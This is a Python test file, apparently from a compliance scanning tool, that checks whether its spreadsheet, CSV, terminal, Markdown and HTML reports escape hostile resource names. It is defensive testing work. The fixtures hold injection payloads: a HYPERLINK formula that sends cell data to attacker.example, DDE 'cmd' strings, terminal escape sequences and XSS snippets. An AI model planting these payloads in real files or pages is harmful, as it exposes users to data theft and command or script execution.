"""What a hostile or careless name must never do to an output (issue 13, injection): become
a live spreadsheet formula, crash the XLSX writer, drive the terminal, or turn into
Markdown structure. One escaping layer per output kind (engine/render/escape.py),
exercised here through the real scan and report commands."""

import csv
import io
import json
import re

import openpyxl
import pytest
import yaml

from genmei.engine.render.escape import cell_text, csv_cell, markdown, terminal
from judgement_fixtures import attestation, firewall, scan, snapshot, write_attestations
from reporting import report

FORMULA_NAME = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
ESC_NAME = "esc\x1b[2Jname"
FAKE_LINE = "sg-x\r\nFAKE: GM-ADMIN-001 PASS\x07"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A scan whose names, gap codes, exception reasons and attestation fields are hostile."""
    tmp = tmp_path_factory.mktemp("hostile")
    formula = firewall("formula", 22)
    formula["name"] = FORMULA_NAME
    escaped = firewall("esc", 22)
    escaped["name"] = ESC_NAME
    faked = firewall("fake", 3389)
    faked["id"] = FAKE_LINE
    gap = {"scope": "123456789012/ap-northeast-1", "service": "ec2", "api": "DescribeVolumes", "resource_types": ["compute.disk"],
           "error_code": "+cmd|' /C calc'!A0", "message": "@SUM(1+1)*cmd|' /C calc'!A0"}
    snap = snapshot(tmp, [formula, escaped, faked], gaps=[gap])
    exceptions = tmp / "exceptions.yaml"
    exceptions.write_text(yaml.safe_dump({"exceptions": [{
        "id": "EXC-1", "check": "GM-NET-001", "resource": formula["id"], "reason": "=1+1", "owner": "-owner",
        "approver": "@approver", "expires": "2027-01-01"}]}, allow_unicode=True))
    atts = write_attestations(tmp, [attestation("4.3.2.4", attested_by="@SUM(A1:A9)", evidence_ref="-2+3",
                                                statement="\tTAB=1")])
    code, stdout, stderr, ev = scan(tmp, snap, "--exceptions", exceptions, "--attestations", atts)
    assert code == 0, stderr
    return {"dir": tmp / "out", "stdout": stdout, "evidence": ev, "tmp": tmp}


HOSTILE_CELLS = (FORMULA_NAME, "=1+1", "-owner", "@approver", "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3")


def workbook_cells(path):
    return [c for ws in openpyxl.load_workbook(path) for row in ws.iter_rows() for c in row if c.value is not None]


@pytest.mark.parametrize("internal", [True, False])
def test_no_spreadsheet_cell_is_a_formula(hostile, tmp_path, internal):
    out = tmp_path / "c.xlsx"
    code, _, stderr = report("checklist", *(["--internal"] if internal else []), "--evidence", hostile["dir"], "--out", out)
    assert code == 0, stderr
    cells = workbook_cells(out)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    if internal:
        found = {c.value: c for c in cells if isinstance(c.value, str)}
        for text in HOSTILE_CELLS:
            hits = [c for v, c in found.items() if v.startswith(text) or v == text]
            assert hits, text
            assert all(c.quotePrefix and c.data_type == "s" for c in hits if c.value.startswith(("=", "+", "-", "@"))), text
        tab = [c for c in cells if isinstance(c.value, str) and c.value.startswith("\t")]
        assert tab and all(c.quotePrefix for c in tab)


def test_one_escape_character_in_a_name_does_not_break_the_workbook(hostile, tmp_path):
    out = tmp_path / "c.xlsx"
    code, _, stderr = report("checklist", "--internal", "--evidence", hostile["dir"], "--out", out)
    assert code == 0, stderr
    values = [c.value for c in workbook_cells(out) if isinstance(c.value, str)]
    assert any("esc␛[2Jname" in v for v in values)
    assert not any("\x1b" in v or "\x07" in v for v in values)


@pytest.mark.parametrize("kind,extra", [("checklist", ["--internal"]), ("checklist", []), ("soa", [])])
def test_csv_fields_that_start_like_a_formula_get_an_apostrophe(hostile, tmp_path, kind, extra):
    out = tmp_path / "c.csv"
    code, _, stderr = report(kind, *extra, "--evidence", hostile["dir"], "--out", out)
    assert code == 0, stderr
    for row in csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))):
        for field in row:
            assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), field
            assert "\x1b" not in field and "\x07" not in field


def test_terminal_output_shows_control_characters_instead_of_obeying_them(hostile):
    for text in (hostile["stdout"], (hostile["dir"] / "summary.txt").read_text()):
        assert "\x1b" not in text and "\x07" not in text and "\r" not in text
        assert not any(line.startswith("FAKE") for line in text.splitlines())
        assert "esc\\x1b[2Jname" in text
        assert "sg-x\\r\\nFAKE: GM-ADMIN-001 PASS\\x07" in text


def test_the_markdown_statement_escapes_the_names_it_is_made_out_to(hostile, tmp_path):
    out = tmp_path / "s.md"
    service = "**当社** <img src=x onerror=alert(1)> [x](javascript:alert(1))"
    code, _, stderr = report("statement", "--evidence", hostile["dir"], "--out", out, "--service", service,
                             "--organisation", "# 見出し\n| a | b |", "--representative", "===")
    assert code == 0, stderr
    text = out.read_text(encoding="utf-8")
    assert not re.search(r"(?<!\\)<img|(?<!\\)\]\(javascript", text) and "**当社**" not in text
    assert "\\*\\*当社\\*\\* \\<img src\\=x onerror\\=alert\\(1\\)\\>" in text
    lines = text.splitlines()
    assert "\\# 見出し \\| a \\| b \\|  " in lines and "\\=\\=\\=" in lines
    assert not [line for line in lines if line.startswith("# 見出し") or line == "==="]


def test_the_html_statement_and_report_escape_them_too(hostile, tmp_path):
    out = tmp_path / "s.html"
    code, _, stderr = report("statement", "--evidence", hostile["dir"], "--out", out, "--service", "<script>x</script>",
                             "--organisation", "O")
    assert code == 0, stderr
    assert "<script>x" not in out.read_text() and "&lt;script&gt;x" in out.read_text()
    out = tmp_path / "r.html"
    assert report("html", "--evidence", hostile["dir"], "--out", out)[0] == 0
    assert FORMULA_NAME not in out.read_text() and "=HYPERLINK(&#34;" in out.read_text()


def test_the_escaping_functions_one_case_each():
    assert cell_text("=1+2") == ("=1+2", True)
    assert cell_text("a=1") == ("a=1", False)
    assert cell_text("a\x1bb\x00c\r\nd") == ("a␛b␀c\nd", False)
    assert cell_text(42) == (42, False)
    assert csv_cell("@x") == "'@x" and csv_cell("-1") == "'-1" and csv_cell("x") == "x"
    assert terminal("a\x1b[31mb\x07\r\n\u202eevil") == "a\\x1b[31mb\\x07\\r\\n\\u202eevil"
    assert terminal("日本語 ok") == "日本語 ok"
    assert markdown("a_b *c* `d` <e> [f](g) #h |i| 1. &amp;") == \
        "a\\_b \\*c\\* \\`d\\` \\<e\\> \\[f\\]\\(g\\) \\#h \\|i\\| 1\\. \\&amp;"
    assert markdown("line\nbreak\ttab") == "line break tab"


def test_json_evidence_keeps_the_names_exactly(hostile):
    names = {r.get("resource_name") for r in hostile["evidence"]["results"]}
    assert FORMULA_NAME in names and ESC_NAME in names
    assert json.loads(json.dumps(hostile["evidence"]))["results"]
